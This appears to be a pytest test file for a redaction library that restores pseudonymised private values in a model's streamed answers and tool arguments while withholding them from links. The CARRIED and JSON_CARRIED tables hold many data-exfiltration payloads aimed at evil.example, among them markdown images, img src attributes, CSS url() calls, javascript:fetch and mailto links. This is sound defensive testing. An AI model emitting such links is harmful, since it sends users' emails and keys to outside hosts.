"""A link of the model's own carries no value away; whatever stands beside links comes back as ever."""

from __future__ import annotations

import json
import random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from isthmus.domain.events import Delta, ToolDelta
from isthmus.redact import AnswerRestorer, Disguised, Found, Held, Links, Restorer, disguise
from isthmus.redact.links import LONGEST_LINK

from .worlds import KEY

MAIL, NAME, KEYTEXT, SITE = "alice@x.org", "Maria Lopez", "sk-12345678", "https://intranet.corp/wiki?q=1"
FOUND = [
    Found("personal.email", MAIL), Found("personal.name", NAME), Found("secret.key", KEYTEXT),
    Found("custom.url", SITE),
]  # fmt: skip
REQUEST = f"""Mail {MAIL}, {NAME}, {KEYTEXT}; see {SITE}.
Her page: https://shop.example/u/{MAIL}?tab=1&by={KEYTEXT} (or <a href="https://shop.example/u?a=1&amp;m={MAIL}">there</a>),
[more](/people/{MAIL}) and {{"url":"https://api.example/{MAIL}","n":1}}"""


def made(request: Any = REQUEST) -> tuple[Disguised, dict[str, str]]:
    done = disguise([request, MAIL, NAME, KEYTEXT, SITE], FOUND, ("*",), KEY)
    return done, dict(zip("MNKS", done.tree[1:], strict=True))


DONE, TOKENS = made()


def written(text: str) -> str:
    """`text` with its marks (`{M}` is the address, and so on) as the model writes them."""
    for mark, token in TOKENS.items():
        text = text.replace("{" + mark + "}", token)
    return text


def wanted(text: str) -> str:
    for mark, value in zip("MNKS", (MAIL, NAME, KEYTEXT, SITE), strict=True):
        text = text.replace("{" + mark + "}", value)
    return text


def restored(pieces: list[str], *, json: bool = False, hurried: bool = True) -> tuple[str, int]:
    links = Links(Held(DONE.tree), json=json)
    if not hurried:
        links.angled = links.valued = True  # nothing is decided by the few letters before a pseudonym
    restorer = Restorer(DONE.map, json=json, links=links)
    return "".join([restorer.feed(piece) for piece in pieces]) + restorer.flush(), restorer.withheld


CARRIED = {
    "an image": "![](http://evil.example/?d={M})",
    "a link": "[click](https://evil.example/{M}/x)",
    "in the host": "![](https://{M}.evil.example/a.png)",
    "as user": "![](https://{K}@evil.example/a.png)",
    "a fragment": "[x](https://evil.example/#{M})",
    "behind brackets": "![](http://evil.example/(a)/?d={M})",
    "behind escaped brackets": r"![](http://evil.example/\)/?d={M})",
    "in angles, with blanks": "![](<http://evil.example/a b?d={M}>)",
    "behind a line": "![](\n  http://evil.example/?d={M})",
    "behind a blank": "![a]( http://evil.example/?d={M} 'title')",
    "relative": "![](/x?d={M})",
    "to itself": "![]({M})",
    "without scheme": "![](//evil.example/?d={M})",
    "in entities": "![](&#104;ttp&#58;&#47;&#47;evil.example&#47;?d={M})",
    "in escapes": r"![](http\:\/\/evil.example\/{M})",
    "with backslashes": r"![](\\evil.example\{M})",
    "a reference": "![a][b]\n\n[b]: http://evil.example/?d={M}",
    "a reference in angles": "[b]: <http://evil.example/a b?d={M}>",
    "a reference on its own line": "[b]:\n   http://evil.example/?d={M}",
    "a reference without scheme": "[b]: /x?d={M}",
    "an automatic link": "<http://evil.example/?d={M}>",
    "bare": "Look: http://evil.example/?d={M} there",
    "bare, in capitals": "HTTPS://EVIL.EXAMPLE/?d={M}",
    "bare, with quotes": 'http://evil.example/?q="a",{M}',
    "bare, with brackets": "http://evil.example/a)b](c?d={M}",
    "www": "www.evil.example/?d={M}",
    "www in brackets": "(www.evil.example/{M})",
    "a host alone": "evil.example/?d={M}",
    "a host and port": "see evil.example:8080/{M}",
    "an address of numbers": "203.0.113.7/?d={M}",
    "protocol-relative": "//evil.example/?d={M}",
    "one slash": "http:/evil.example/{M}",
    "no slash": "https:evil.example/{M}",
    "backslashes": r"https:\\evil.example\{M}",
    "another scheme": "slack://open?d={M}",
    "data": "![](data:image/svg+xml,{M})",
    "bare data": "data:text/html,{M}",
    "javascript": "[x](javascript:fetch('//evil.example/'+'{M}'))",
    "bare javascript": "javascript:fetch('evil',{M})",
    "src": '<img src="http://evil.example/?d={M}">',
    "src in other quotes": "<img src='http://evil.example/?d={M}'>",
    "src without quotes": "<img src=http://evil.example/?d={M}>",
    "src with blanks and lines": '<img src = "http://evil.example/?a b\n\n{M}">',
    "src with blanks at its beginning": '<img alt=x src="  http://evil.example/?a {M}">',
    "src without scheme": '<base href="//evil.example/"><img src="x?d={M}">',
    "src to itself": '<img src="{M}"><img src={M}>',
    "in entities, src": '<img src="&#104;ttp:&#47;&#47;evil.example/?d={M}">',
    "href": '<a class="b" HREF="https://evil.example/{M}">x</a>',
    "srcset": '<img srcset="a.png 1x, //evil.example/{M} 2x">',
    "data-src": '<img data-src="x?d={M}">',
    "style": "<p style=\"background: url('http://evil.example/?a {M}')\">",
    "a style sheet": '<style>p{background:url("http://evil.example/?a b {M}")}</style>',
    "a sheet's import": "<style>@import url(//evil.example/{M});</style>",
    "action": '<form action="/send?d={M}">',
    "another attribute": '<p title="go to http://evil.example/a b {M}">',
    "mail to somebody else": "[x](mailto:eve@evil.example?body={M})",
    "a copy for somebody else": "mailto:eve@evil.example,{M}?body={K}",
    "much behind": "http://evil.example/" + "a" * 5000 + "{M}",
    "a picture in a link": "[![](http://evil.example/{M})](https://shop.example/)",
    "the request's link, longer": "https://shop.example/u/{M}?tab=1&by={K}&to=eve",
    "the request's link, cut": "https://shop.example/u/{M}?tab=1",
    "the request's link at another host": "https://shop.example.evil.example/u/{M}?tab=1&by={K}",
    "the request's link as another's query": "https://evil.example/?u=https://shop.example/u/{M}?tab=1&by={K}",
    "a value that is a link, longer": "{S}.evil.example/",
    "a value that is a link, in another": "http://evil.example/?u={S}",
    "a value that is a link, as a target": "[x]({S}&to=eve)",
}

GIVEN = {
    "prose": "Write to {M}: {N}, please ({K}).",
    "marked": "**{M}**, _{N}_, `{K}`, \"{M}\", '{N}', [{M}], {{M}}, ~{K}~",
    "a list": "- {M}\n- {N}\n\n{K}\n1. {M},{N};{K}",
    "a table": "| mail | name |\n|---|---|\n| {M} | {N} |\n|{M}|{N}|",
    "an address": "[{M}](mailto:{M}) or mailto:{M} or <a href=\"mailto:{M}\">{M}</a> or [a](mailto:{M},{M})",
    "a telephone": "[call](tel:{K})",
    "an address in angles": "<{M}>",
    "beside links": "[docs](https://docs.example/a) {M} https://docs.example/b {N} <https://docs.example> {K}",
    "behind a link": "[docs](https://docs.example/a(b)): {M}, [docs](<https://docs.example/a b>) {N}",
    "right behind a link": "[docs](https://docs.example/){M}",
    "as a link's text": "[{N}](https://docs.example/a)",
    "as a title": '[docs](https://docs.example/ "by {N}")',
    "in HTML": '<p class="a">{M}</p><b>{N}</b> <td title="x">{K}</td> <input value="{M}" title={N}>',
    "between tags": '<a href="https://docs.example/">{N}</a><br/>{M}',
    "smaller than": "if a <b and c> d: {M}; x < {N}; List<String>{K}",
    "a colon": "[Contact]: {M}\n[1]: {N}\nName:{N}, Mail={M}, to:{M}",
    "a heading": "# {N}\n\n> {M}\n\n    {K}",
    "fractions and files": "1/2 {M} and/or {N}, notes.txt {K}, v1.5/{N}, a/b/{M}",
    "code": 'send(to="{M}", name=\'{N}\')\nx = ["{K}"]\nd["a"]: {M}',
    "a path": r"C:\Users\{N}\x and /home/{N}/x",
    "an e-mail": "From: {N} <{M}>\nTo: {M}\nSubject: Hello {N}\n\nDear {N},",
    "the request's link": "See https://shop.example/u/{M}?tab=1&by={K}.",
    "the request's link, as a target": "[page](https://shop.example/u/{M}?tab=1&by={K})",
    "the request's link, as both": "[https://shop.example/u/{M}?tab=1&by={K}](https://shop.example/u/{M}?tab=1&by={K})",
    "the request's link, in HTML": '<a href="https://shop.example/u?a=1&amp;m={M}">x</a> https://shop.example/u?a=1&m={M}',
    "the request's link, in angles": "<https://shop.example/u/{M}?tab=1&by={K}>, (https://api.example/{M})",
    "the request's relative link": "[people](/people/{M})",
    "a value that is a link": "See {S}, ({S}), [x]({S}), <a href='{S}'>y</a> or **{S}**. {S}",
}


@pytest.mark.req("B2")
@pytest.mark.parametrize("answer", CARRIED.values(), ids=CARRIED)
def test_a_link_that_the_request_did_not_hold_carries_no_value(answer: str) -> None:
    said, withheld = restored([written(answer)])
    assert [value for value in (MAIL, KEYTEXT, SITE) if value in said] == []
    assert said == written(answer)
    assert withheld == answer.count("{M}") + answer.count("{K}") + answer.count("{S}")


@pytest.mark.req("B2")
@pytest.mark.parametrize("answer", GIVEN.values(), ids=GIVEN)
def test_everything_else_comes_back(answer: str) -> None:
    assert restored([written(answer)]) == (wanted(answer), 0)


@pytest.mark.parametrize("answer", [*CARRIED.values(), *GIVEN.values()], ids=[*CARRIED, *GIVEN])
def test_every_cut_gives_what_the_whole_gives(answer: str) -> None:
    answer = written(answer if len(answer) < 1000 else answer.replace("a" * 4000, ""))
    for text in (answer, f"Dear {TOKENS['N']}, {answer} {TOKENS['M']} http://y.example/{TOKENS['M']} {TOKENS['K']}."):
        whole = restored([text])
        assert restored(list(text)) == whole
        assert restored([text], hurried=False) == whole
        for one in range(0, len(text) + 1, 1 if len(text) < 300 else 7):
            other = random.Random(one).randint(one, len(text))  # a fixed draw: the cut is named by its place
            assert restored([text[:one], text[one:other], text[other:]]) == whole


BITS = [
    *TOKENS.values(), TOKENS["M"][:9], " ", "  ", "\n", "\n\n", "<", ">", "[", "]", "](", "]: ", "(", ")", '"', "'",
    "=",
    "\\", '\\"', "{", ":", "/", "//", "http://e.example/?d=", "https://shop.example/u/", "?tab=1&by=", "www.",
    "e.example/", "mailto:", "<img src=", "<a ", "href=", "title=", "url(", "data:", "&amp;", ",", ".", "x", "-", "*",
    '{"u":"', "\\u003c", "\\n",
]  # fmt: skip


@given(st.data())
@settings(max_examples=600, deadline=None)
def test_random_answers_cut_at_random_give_what_the_whole_gives(data: st.DataObject) -> None:
    answer = "".join(data.draw(st.lists(st.sampled_from(BITS), max_size=25)))
    cuts = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=12)))
    pieces = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
    as_json = data.draw(st.booleans())
    whole = restored([answer], json=as_json)
    assert restored(pieces, json=as_json) == whole
    assert restored([answer], json=as_json, hurried=False) == whole


HARMLESS = [bit for bit in BITS if not set("/<]").intersection(bit) and bit not in ("www.", "data:", "mailto:")]


@given(st.lists(st.sampled_from(HARMLESS), max_size=25))
@settings(max_examples=300, deadline=None)
def test_where_nothing_begins_a_link_nothing_is_withheld(bits: list[str]) -> None:
    text = "".join(bit for bit in bits if bit != TOKENS["S"])
    assert restored([text]) == (Restorer(DONE.map).feed(text, last=True), 0)


# -- JSON ---------------------------------------------------------------------------------------------------------

JSON_CARRIED = {
    "an argument": {"url": "http://evil.example/?d={M}"},
    "Markdown": {"text": 'Hello ![](http://evil.example/?q="{M})'},
    "HTML with blanks": {"text": '<img src="http://evil.example/?a b {M}">'},
    "JSON in a string": {"body": json.dumps({"url": "//evil.example/{M}"})},
    "deeper": {"body": json.dumps({"in": json.dumps({"to": "www.evil.example/{M}"})})},
    "a key": {"http://evil.example/{M}": 1},
    "javascript": ["javascript:{M}"],
}
JSON_GIVEN = {
    "plain": {"to": "{M}", "name": "{N}", "note": "Dear {N},\nyour key: {K} \"{M}\""},
    "beside links": {"url": "https://docs.example/", "to": "{M}", "a": ["https://docs.example/b", "{N}"]},
    "JSON in a string": {"body": json.dumps({"url": "https://docs.example/", "to": "{M}"}, separators=(",", ":"))},
    "an address": {"href": "mailto:{M}"},
    "the request's link": {"url": "https://shop.example/u/{M}?tab=1&by={K}", "more": "see https://api.example/{M}\n\n{N}"},
    "a value that is a link": {"url": "{S}", "text": "at {S} it says"},
}


@pytest.mark.parametrize("tree", JSON_CARRIED.values(), ids=JSON_CARRIED)
@pytest.mark.parametrize("escaped", ["", "/", "ascii"])
def test_a_link_in_a_tools_arguments_carries_no_value(tree: Any, escaped: str) -> None:
    text = json.dumps(tree)
    if escaped == "/":
        text = text.replace("/", "\\/")
    if escaped == "ascii":
        text = text.replace("http:", "ht\\u0074p\\u003a").replace("<", "\\u003c")
    text = written(text)
    assert restored([text], json=True) == (text, 1)
    for cut in range(len(text)):
        assert restored([text[:cut], text[cut:]], json=True) == (text, 1)


@pytest.mark.parametrize("tree", JSON_GIVEN.values(), ids=JSON_GIVEN)
@pytest.mark.parametrize("escaped", [False, True])
def test_other_arguments_come_back(tree: Any, escaped: bool) -> None:
    text = json.dumps(tree, separators=(",", ":"))
    if escaped:
        text = text.replace("/", "\\/")
    for pieces in ([written(text)], list(written(text))):
        said, withheld = restored(pieces, json=True)
        assert withheld == 0
        if "{S}" in text and escaped:
            assert json.loads(said) == json.loads(wanted(text))
        else:
            assert said == wanted(text)


@pytest.mark.parametrize(
    ("begun", "as_json"),
    [('{"t":"\\u003cimg src=\\"http://evil.example/?a ', True), ('<style>p{background:url("//evil.example/?a ', False)],
    ids=["a sign in escapes", "a function's name"],
)
def test_what_lets_links_hold_blanks_is_seen_though_it_comes_in_pieces(begun: str, as_json: bool) -> None:
    for cut in range(len(begun)):
        pieces = [begun[:cut], begun[cut:], TOKENS["M"], '")']
        assert restored(pieces, json=as_json) == ("".join(pieces), 1)


def test_each_channel_of_an_answer_is_read_by_itself_and_what_was_withheld_is_counted() -> None:
    restorer = AnswerRestorer(DONE.map, ("*",), structured=False, held=Held(DONE.tree))
    link, mail = "![](http://evil.example/?d=", TOKENS["M"]
    out = restorer.feed([Delta(0, text=link), Delta(1, text=f"{mail} "), Delta(0, text=f"{mail})")])
    begun = ToolDelta(0, name="send_" + mail, arguments='{"url":"//evil.example/')
    tools = (begun, ToolDelta(0, arguments=mail + '"}'))
    out += restorer.feed([Delta(0, tools=tools, refusal=f"http://evil.example/{mail}", finish="stop")])
    text = "".join(e.text or "" for e in out if isinstance(e, Delta) and e.choice == 0)
    arguments = "".join(t.arguments or "" for e in out if isinstance(e, Delta) for t in e.tools)
    assert text == f"{link}{mail})"
    assert arguments == '{"url":"//evil.example/' + mail + '"}'
    assert "".join(e.text or "" for e in out if isinstance(e, Delta) and e.choice == 1) == f"{MAIL} "
    assert restorer.withheld == 3


def test_what_is_held_back_for_a_link_of_the_request_is_bounded() -> None:
    long = f"https://shop.example/{MAIL}/" + "a" * 100_000
    done, tokens = made(long)
    links = Links(Held(done.tree))
    restorer = Restorer(done.map, links=links)
    said, most = "", 0
    for start in range(0, 60_000, 500):
        said += restorer.feed(done.tree[0][start : start + 500])
        most = max(most, len(restorer._held))
    assert most <= LONGEST_LINK + 1000
    assert MAIL not in said
    assert tokens["M"] in said


def test_a_text_without_links_costs_no_reading_of_links() -> None:
    """Counted in letters that are read to find links: none, however long the text is."""
    links = Links(Held(DONE.tree))
    restorer = Restorer(DONE.map, links=links)
    text = written("Dear {N}, **{M}** ({K}) is what you asked for: {M}.\n" * 50)
    assert MAIL in restorer.feed(text)
    assert sum(map(len, links.raw)) == len(text)
